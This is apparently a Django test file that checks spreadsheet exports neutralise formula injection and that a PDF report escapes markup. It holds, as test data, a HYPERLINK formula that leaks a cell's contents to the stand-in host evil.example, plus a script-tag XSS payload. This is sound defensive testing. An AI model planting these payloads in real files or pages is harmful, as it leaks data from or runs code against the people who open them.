"""Formula injection: text that a spreadsheet would run (=, +, -, @ …) is neutralised in
every CSV and XLSX export, and markup stays text in the exports and the PDF report."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone

from core.csvsafe import FORMULA_PREFIXES
from ideas import actions
from portfolio.models import Activity
from registry.models import Organisation
from tests.workspace_support import IDEA_DATA

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def poisoned(settings: Any, tmp_path: Any) -> None:
    settings.IDEAS_ATTACHMENT_DIR = tmp_path
    organisation = Organisation.objects.order_by("pk").first()
    assert organisation is not None
    organisation.name = FORMULA
    organisation.save()  # also an audit event whose object is named by the formula
    activity = Activity.objects.order_by("pk").first()
    assert activity is not None
    activity.title_fi = activity.title_en = activity.title_sv = "+" + FORMULA[1:]
    activity.save()
    actions.submit_idea(
        data={**IDEA_DATA, "title": "@" + FORMULA[1:], "contact_name": "-" + FORMULA[1:]},
        token="formula",
    )
    try:
        from radar.models import Call
    except ImportError:
        return
    Call.objects.create(
        source="manual",
        key="formula",
        title=FORMULA,
        status="open",
        first_seen=timezone.now(),
        last_changed=timezone.now(),
    )


def cells_of(response: Any) -> list[Any]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(body))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula cell {cell.coordinate}"
                found.append(cell.value)
    return found


def assert_neutralised(response: Any, where: str) -> None:
    assert response.status_code == 200, where
    cells = [c for c in cells_of(response) if isinstance(c, str)]
    dangerous = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    assert dangerous == [], where
    assert any("HYPERLINK" in c for c in cells), f"the payload did not reach {where}"


def test_every_spreadsheet_export_neutralises_formulas(
    poisoned: None, ada: User, vera: User
) -> None:
    client = Client()
    client.force_login(ada)
    assert_neutralised(client.get("/en/staff/audit/export.csv"), "audit export")
    try:
        from insights import exports
    except ImportError:
        exports = None  # type: ignore[assignment]
    if exports is not None:
        for key in exports.DATASETS:
            for fmt in exports.FORMATS:
                url = f"/en/staff/insights/export/?dataset={key}&format={fmt}&personal=on"
                if key == "memberships":  # no poisoned text in this one: no payload check
                    response = client.get(url)
                    assert response.status_code == 200
                    cells = [c for c in cells_of(response) if isinstance(c, str)]
                    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
                    continue
                assert_neutralised(client.get(url), url)
    try:
        import radar  # noqa: F401
    except ImportError:
        return
    client.force_login(vera)
    assert_neutralised(client.get("/en/staff/radar/calls.xlsx"), "radar calls")


def test_open_data_files_neutralise_formulas(poisoned: None) -> None:
    client = Client()
    response = client.get("/api/v1/open-data/activities.csv")
    if response.status_code == 404:
        pytest.skip("no activities open-data file")
    assert_neutralised(response, "open data activities.csv")


def test_markup_in_titles_stays_text_in_the_report_behind_the_pdf() -> None:
    try:
        from insights import reports
    except ImportError:
        pytest.skip("no insights app")
    payload = "<script>alert(1)</script>"
    from strategy.models import Goal

    Activity.objects.update(title_fi=payload, title_en=payload, title_sv=payload)
    Goal.objects.update(title_fi=payload, title_en=payload, title_sv=payload)
    year = 2024  # inside the seeded council term 2021–2025
    html = reports.render_html("annual", year, "en") + reports.render_html("term", year, "fi")
    assert "<script>alert(1)" not in html
    assert "&lt;script&gt;alert(1)" in html  # the titles are in the report, as text
